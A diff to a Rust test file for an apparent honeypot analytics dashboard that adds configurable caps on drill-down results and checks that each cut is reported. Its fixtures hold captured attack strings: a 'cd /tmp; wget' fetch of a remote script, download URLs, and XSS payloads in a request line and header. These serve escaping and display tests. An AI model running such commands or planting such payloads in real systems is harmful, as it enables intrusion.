@@ -7,8 +7,11 @@
 
 mod analytics_support;
 use analytics_support::*;
-use drosera_admin::analytics::{self, Query, SearchKind};
+use drosera_admin::analytics::{self, DrillConfig, Query, SearchKind};
 use drosera_uplink::event::{Detail, Protocol};
+
+/// The `[drill]` caps of a config without that section.
+const CAPS: DrillConfig = DrillConfig::DEFAULTS;
 
 fn range(since: i64, until: i64) -> Query {
     Query { since_ms: Some(since), until_ms: Some(until), sensor: None, ..Default::default() }
@@ -80,7 +83,7 @@ fn attacker_session_and_search_in_the_library() {
     let all = range(T0, T0 + 10 * DAY);
 
     // Attacker: every credential, its sessions, sensors and protocols.
-    let a = analytics::attacker(&*c, &all, "8.8.8.8", 1).unwrap().unwrap();
+    let a = analytics::attacker(&*c, &all, "8.8.8.8", 1, &CAPS).unwrap().unwrap();
     assert_eq!(a.attempts, 12);
     assert_eq!(a.sessions_total, 12);
     assert_eq!(a.sessions.len(), 12);
@@ -93,34 +96,36 @@ fn attacker_session_and_search_in_the_library() {
     assert_eq!(a.first_seen_ms, Some(T0 + HOUR + 60_000));
     assert!(!a.truncated);
     // Downloads, samples and exploits of another address.
-    let b = analytics::attacker(&*c, &all, "10.0.0.5", 1).unwrap().unwrap();
+    let b = analytics::attacker(&*c, &all, "10.0.0.5", 1, &CAPS).unwrap().unwrap();
     assert_eq!(b.samples[0].value, "ab".repeat(32));
     assert_eq!(b.exploits[0].detail, "CVE-2014-6271");
     assert_eq!(b.downloads[0].value, "http://198.51.100.7/<b>x.sh");
     // Paging, and nothing outside the range.
-    let p2 = analytics::attacker(&*c, &all, "8.8.8.8", 2).unwrap().unwrap();
+    let p2 = analytics::attacker(&*c, &all, "8.8.8.8", 2, &CAPS).unwrap().unwrap();
     assert!(p2.sessions.is_empty() && p2.page == 2);
-    assert!(analytics::attacker(&*c, &range(T0 + 5 * DAY, T0 + 6 * DAY), "8.8.8.8", 1).unwrap().is_none());
-    assert!(analytics::attacker(&*c, &all, "192.0.2.1", 1).unwrap().is_none());
+    assert!(analytics::attacker(&*c, &range(T0 + 5 * DAY, T0 + 6 * DAY), "8.8.8.8", 1, &CAPS).unwrap().is_none());
+    assert!(analytics::attacker(&*c, &all, "192.0.2.1", 1, &CAPS).unwrap().is_none());
 
     // Session: every event of one connection in sequence order.
-    let s = analytics::session(&*c, "s3", 7).unwrap().unwrap();
+    let s = analytics::session(&*c, "s3", 7, &CAPS).unwrap().unwrap();
     let kinds: Vec<&str> = s.events.iter().map(|e| e.kind.as_str()).collect();
     assert_eq!(kinds, vec!["login", "command", "command", "download_offered", "connection"]);
     assert_eq!(s.events[1].summary, "cd /tmp; wget http://198.51.100.9/m.sh");
     assert_eq!(s.src_ip, HOSTILE_IP);
-    let h = analytics::session(&*c, "s3", 8).unwrap().unwrap();
+    let h = analytics::session(&*c, "s3", 8, &CAPS).unwrap().unwrap();
     assert_eq!(h.events[0].summary, "GET /<svg onload=alert(1)>?a=<b>");
     assert_eq!(h.events[0].fields.get("x-evil").map(String::as_str), Some("<iframe src=//e>"));
-    assert!(analytics::session(&*c, "s3", 99).unwrap().is_none());
-    assert!(analytics::session(&*c, "nope", 7).unwrap().is_none());
+    assert!(analytics::session(&*c, "s3", 99, &CAPS).unwrap().is_none());
+    assert!(analytics::session(&*c, "nope", 7, &CAPS).unwrap().is_none());
     // The text forms escape control characters.
-    for text in [s.to_text(), h.to_text(), analytics::attacker(&*c, &all, HOSTILE_IP, 1).unwrap().unwrap().to_text()] {
+    for text in
+        [s.to_text(), h.to_text(), analytics::attacker(&*c, &all, HOSTILE_IP, 1, &CAPS).unwrap().unwrap().to_text()]
+    {
         assert!(!text.contains('\x1b') && !text.contains('\x07') && !text.contains('\u{202e}'), "{text}");
     }
 
     // Search, every kind.
-    let hits = |q: &str| analytics::search(&*c, &all, q).unwrap();
+    let hits = |q: &str| analytics::search(&*c, &all, q, &CAPS).unwrap();
     let r = hits("8.8.8.0/24");
     assert_eq!(r.kinds, vec![SearchKind::Address]);
     assert_eq!(r.hits.iter().map(|h| h.value.as_str()).collect::<Vec<_>>(), vec!["8.8.8.8"]);
@@ -247,6 +252,9 @@ fn drill_down_pages_json_and_csv_over_http() {
     assert_eq!(r.status, 200, "{}", r.body);
     assert!(r.body.contains(r#"<td id="attempts">12</td>"#), "{}", r.body);
     assert!(r.body.contains(r#"href="/session/s1/111""#));
+    for cut in [r#"id="truncated""#, r#"id="lists-cut""#, r#"id="cut-"#] {
+        assert!(!r.body.contains(cut), "nothing cut at the default caps: {}", r.body);
+    }
     assert!(r.body.contains("xc3511"));
     assert!(
         r.body.contains(&format!(
@@ -313,15 +321,15 @@ fn drill_down_pages_json_and_csv_over_http() {
     };
     assert_eq!(
         j(&format!("/api/attacker?addr=8.8.8.8&{RANGE}")),
-        serde_json::to_value(analytics::attacker(&*c, &all, "8.8.8.8", 1).unwrap().unwrap()).unwrap()
+        serde_json::to_value(analytics::attacker(&*c, &all, "8.8.8.8", 1, &CAPS).unwrap().unwrap()).unwrap()
     );
     assert_eq!(
         j("/api/session?sensor=s3&conn=7"),
-        serde_json::to_value(analytics::session(&*c, "s3", 7).unwrap().unwrap()).unwrap()
+        serde_json::to_value(analytics::session(&*c, "s3", 7, &CAPS).unwrap().unwrap()).unwrap()
     );
     assert_eq!(
         j(&format!("/api/search?q=root&{RANGE}")),
-        serde_json::to_value(analytics::search(&*c, &all, "root").unwrap()).unwrap()
+        serde_json::to_value(analytics::search(&*c, &all, "root", &CAPS).unwrap()).unwrap()
     );
     assert_eq!(http(a, "GET", "/api/session?sensor=s3", &auth, "").status, 400);
     assert_eq!(http(a, "GET", &format!("/api/search?q={}", "x".repeat(600)), &auth, "").status, 400);
@@ -341,4 +349,98 @@ fn drill_down_pages_json_and_csv_over_http() {
     // The overview draws the stacked per-protocol chart.
     let r = http(a, "GET", &format!("/?since={}&until={}", T0, T0 + 20 * HOUR), &auth, "");
     assert!(r.body.contains("Attempts per hour and protocol") && r.body.contains(r#"<rect class="bar""#), "{}", r.body);
+}
+
+/// Every `[drill]` cap set small: each cut is said on the page, in the JSON and in the CLI's
+/// text, and the numbers are the config's.
+#[test]
+fn small_drill_caps_cut_and_every_page_says_so() {
+    let dir = tempfile::tempdir().unwrap();
+    let c = seeded(&dir.path().join("a.db"));
+    drosera_admin::users::add_user(&*c, "admin", "correct horse").unwrap();
+    let all = range(T0, T0 + 10 * DAY);
+    let full = analytics::attacker(&*c, &all, "8.8.8.8", 1, &CAPS).unwrap().unwrap();
+    assert!(!full.truncated && full.lists_cut.is_empty(), "{full:?}");
+    assert_eq!(full.credentials.len(), 2);
+    let caps = DrillConfig {
+        attacker_events: u32::try_from(full.events - 1).unwrap(),
+        session_events: 2,
+        search_scan: 20_000,
+        search_hits: 3,
+        sessions_per_page: 5,
+        list_rows: 1,
+    };
+
+    // The library: each cut is in the answer.
+    let a = analytics::attacker(&*c, &all, "8.8.8.8", 1, &caps).unwrap().unwrap();
+    assert!(a.truncated);
+    assert_eq!((a.events, a.max_events), (full.events - 1, full.events - 1));
+    assert_eq!(a.credentials.len(), 1);
+    assert_eq!(a.credentials[0].value, "root", "the most frequent kept");
+    assert!(
+        a.lists_cut.contains(&analytics::ListCut { list: "credentials".into(), shown: 1, distinct: 2 }),
+        "{:?}",
+        a.lists_cut
+    );
+    assert_eq!((a.sessions.len(), a.per_page), (5, 5));
+    let s = analytics::session(&*c, "s3", 7, &caps).unwrap().unwrap();
+    assert!(s.truncated && s.events.len() == 2 && s.max_events == 2, "{s:?}");
+    assert_eq!(s.events[0].kind, "login", "the first events kept");
+    let r = analytics::search(&*c, &all, "root", &caps).unwrap();
+    assert!(r.truncated && r.hits.len() == 3 && r.max_hits == 3, "{r:?}");
+    let narrow = DrillConfig { search_scan: 2, ..CAPS };
+    let r = analytics::search(&*c, &all, "root", &narrow).unwrap();
+    assert!(r.truncated && r.hits.len() <= 2 && r.max_scan == 2, "{r:?}");
+    let text = a.to_text();
+    assert!(text.contains("[drill] attacker_events") && text.contains("the 1 most frequent of 2 distinct"), "{text}");
+
+    // The dashboard, served with these caps.
+    let dash = drosera_admin::dashboard::DashboardConfig { cookie_secure: true, ..Default::default() };
+    let served = serve_dashboard_drill(&c.loc, dash, caps);
+    let a_ = served.addr;
+    let cookie = login_cookie(a_);
+    let auth = [("Cookie", cookie.as_str())];
+    let r = http(a_, "GET", &format!("/attacker/8.8.8.8?{RANGE}"), &auth, "");
+    assert_eq!(r.status, 200, "{}", r.body);
+    assert!(
+        r.body.contains(&format!(
+            r#"<p class="note" id="truncated">This address has more than {} events in this range (the cap [drill] attacker_events)"#,
+            full.events - 1
+        )),
+        "{}",
+        r.body
+    );
+    assert!(r.body.contains(r#"id="lists-cut">Cut to their 1 most frequent values"#), "{}", r.body);
+    assert!(
+        r.body.contains(r#"<p class="note" id="cut-credentials">The 1 most frequent of 2 distinct values"#),
+        "{}",
+        r.body
+    );
+    assert!(r.body.contains("page 1 of "), "{}", r.body);
+    let r = http(a_, "GET", &format!("/api/attacker?addr=8.8.8.8&{RANGE}&format=csv&table=credentials"), &auth, "");
+    assert_eq!(r.body.lines().count(), 2, "header and the one row kept: {}", r.body);
+    let j = |p: &str| -> serde_json::Value {
+        let r = http(a_, "GET", p, &auth, "");
+        assert_eq!(r.status, 200, "{p}: {}", r.body);
+        serde_json::from_str(&r.body).unwrap()
+    };
+    assert_eq!(j(&format!("/api/attacker?addr=8.8.8.8&{RANGE}")), serde_json::to_value(&a).unwrap());
+    let r = http(a_, "GET", "/session/s3/7", &auth, "");
+    assert!(
+        r.body.contains(
+            r#"<p class="note" id="truncated">This connection has more than 2 events (the cap [drill] session_events)"#
+        ),
+        "{}",
+        r.body
+    );
+    assert_eq!(j("/api/session?sensor=s3&conn=7"), serde_json::to_value(&s).unwrap());
+    let r = http(a_, "GET", &format!("/search?q=root&{RANGE}"), &auth, "");
+    assert!(r.body.contains(r#"<p id="search-summary">3 results"#), "{}", r.body);
+    assert!(
+        r.body.contains(r#"id="truncated">More may match"#) && r.body.contains("[drill] search_hits"),
+        "{}",
+        r.body
+    );
+    let r = j(&format!("/api/search?q=root&{RANGE}"));
+    assert_eq!((r["truncated"].as_bool(), r["hits"].as_array().map(Vec::len)), (Some(true), Some(3)));
 }
